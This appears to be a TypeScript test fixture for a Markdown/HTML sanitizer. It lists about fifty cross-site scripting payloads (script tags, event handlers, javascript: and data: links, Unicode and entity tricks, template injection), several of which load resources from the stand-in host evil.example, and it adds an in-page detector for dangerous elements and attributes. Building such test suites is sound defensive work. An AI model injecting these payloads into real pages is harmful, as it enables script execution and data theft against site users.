/** Words by which somebody would like to run a script in somebody else's page; each would set `hacked` there. */

export const HOSTILE: readonly string[] = [
  "<script>hacked = 1</script>",
  "<ScRiPt src=https://evil.example/a.js></sCrIpT>",
  "</script><script>hacked = 2</script>",
  "<img src=x onerror=hacked=3>",
  '<img src="https://evil.example/pixel.png">',
  "<svg onload=hacked=4>",
  "<svg><animate onbegin=hacked=5 attributeName=x dur=1s></svg>",
  "<svg><script>hacked = 6</script></svg>",
  "<math><mtext><img src=x onerror=hacked=7></mtext></math>",
  "<iframe src=javascript:hacked=8></iframe>",
  '<iframe srcdoc="<script>parent.hacked = 9</script>"></iframe>',
  "<object data=javascript:hacked=10></object>",
  "<embed src=https://evil.example/x.swf>",
  "<body onload=hacked=11>",
  "<details open ontoggle=hacked=12>x</details>",
  "<input autofocus onfocus=hacked=13>",
  "<video><source onerror=hacked=14></video>",
  "<a href=javascript:hacked=15>press</a>",
  "[press](javascript:hacked=16)",
  "[press](JaVaScRiPt&colon;hacked=17)",
  "[press](java\tscript:hacked=18)",
  "[press](data:text/html,<script>hacked=19</script>)",
  "[press](vbscript:hacked=20)",
  "<javascript:hacked=21>",
  "![picture](https://evil.example/picture.png)",
  '![picture](x" onerror="hacked=22)',
  '[press](https://good.example/" onmouseover="hacked=23)',
  "```html\n<img src=x onerror=hacked=24>\n```",
  '```"><img/src=x/onerror=hacked=25>\nx\n```',
  "`<img src=x onerror=hacked=26>`",
  "$$\\href{javascript:hacked=27}{x}$$",
  "| <img src=x onerror=hacked=28> | b |\n|---|---|\n| <svg onload=hacked=29> | d |",
  "> <script>hacked = 30</script>",
  "- <style>@import 'https://evil.example/x.css'</style>",
  '<p style="background:url(https://evil.example/bg.png)">x</p>',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><button>x</button></form>",
  "{{constructor.constructor('hacked=31')()}}",
  "$" + "{hacked=32}",
  "\u202e<script>hacked = 33</script>",
  "\uff1cscript\uff1ehacked = 34\uff1c/script\uff1e",
  "<scr\u200bipt>hacked = 35</scr\u200bipt>",
  "<img src=x onerror=\\u0068acked=36>",
  "&lt;img src=x onerror=hacked=37&gt;",
  "&#60;script&#62;hacked = 38&#60;/script&#62;",
  '"><img src=x onerror=hacked=39>',
  "'-hacked=40-'",
  "<!--><img src=x onerror=hacked=41>-->",
  '<noscript><p title="</noscript><img src=x onerror=hacked=42>">',
  "<template><img src=x onerror=hacked=43></template>",
];

/** Those that a field of one line takes, and Markdown leaves as they are. */
export const HOSTILE_TAGS = HOSTILE.filter((one) => /^<(?!javascript:)[^\n]*$/.test(one));

/** Runs in the page: everything in it that ran, or could run, or could fetch something from elsewhere. */
export const LOOK_FOR_HARM = `() => {
  const forbidden = "script,iframe,frame,object,embed,base,meta,link,style,audio,video,source,math,template,noscript,animate,set,foreignObject,marquee";
  const harm = [...document.querySelectorAll("#app *")].flatMap((one) => [
    ...(one.matches(forbidden) ? [one.outerHTML] : []),
    ...[...one.attributes].filter(({ name, value }) =>
      /^on|^srcdoc$/i.test(name)
      || (/^(href|src|action|formaction|xlink:href|data|srcset|poster)$/i.test(name) && !/^(https?:|mailto:|blob:|#|[/](?![/]))/i.test(value))
      || (/^(src|srcset|poster|action)$/i.test(name) && !/^(blob:|[/](?![/]))/i.test(value))
    ).map(({ name, value }) => one.localName + " " + name + "=" + value),
  ]);
  return typeof hacked === "undefined" ? harm : ["it ran: " + hacked, ...harm];
}`;
